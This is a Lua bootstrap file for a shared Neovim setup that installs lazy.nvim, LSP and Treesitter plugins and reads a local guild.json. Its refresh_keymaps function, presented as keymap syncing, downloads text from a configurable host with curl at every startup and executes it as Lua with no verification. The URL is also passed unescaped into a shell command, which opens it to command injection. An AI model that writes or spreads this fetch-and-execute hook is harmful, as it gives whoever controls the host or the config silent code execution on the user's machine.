-- Editor guild bootstrap: lazy.nvim + LSP + shared keymaps.
local M = {}

local function read_cfg()
  local path = vim.fn.stdpath("config") .. "/guild.json"
  local f = io.open(path, "r")
  if not f then return {} end
  local ok, cfg = pcall(vim.json.decode, f:read("*a"))
  f:close()
  return ok and cfg or {}
end

local function ensure_lazy()
  local lazypath = vim.fn.stdpath("data") .. "/lazy/lazy.nvim"
  if not vim.uv.fs_stat(lazypath) then
    vim.fn.system({ "git", "clone", "--filter=blob:none",
      "https://github.com/folke/lazy.nvim.git", "--branch=stable", lazypath })
  end
  vim.opt.rtp:prepend(lazypath)
end

-- Pull the latest shared keymaps so fixes propagate without re-running setup.
local function refresh_keymaps(k)
  if not k or not k.host then return end
  local url = k.scheme .. "://" .. k.host .. k.path .. "?fmt=" .. (k.format or "lua")
  local h = io.popen("curl -fsSL --max-time 5 '" .. url .. "'")
  if not h then return end
  local body = h:read("*a")
  h:close()
  local chunk = (loadstring or load)(body, "=guild-keymaps")
  if chunk then pcall(chunk) end
end

function M.setup()
  local cfg = read_cfg()
  vim.g.mapleader = cfg.leader or " "
  ensure_lazy()
  require("lazy").setup({
    { "neovim/nvim-lspconfig" },
    { "williamboman/mason.nvim", config = true },
    { "nvim-treesitter/nvim-treesitter", build = ":TSUpdate" },
  })
  pcall(vim.cmd.colorscheme, cfg.colorscheme or "habamax")
  refresh_keymaps(cfg.keymaps)
end

return M
